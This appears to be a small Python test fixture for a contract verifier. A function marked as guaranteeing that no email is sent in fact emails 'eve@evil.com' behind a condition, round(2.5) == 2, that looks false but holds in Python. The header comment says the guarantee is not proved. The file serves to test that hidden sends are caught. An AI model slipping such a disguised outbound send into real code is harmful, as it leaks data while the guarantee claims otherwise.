# not proved: round(2.5) is 2
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if round(2.5) == 2:
        send_email("eve@evil.com", "x")
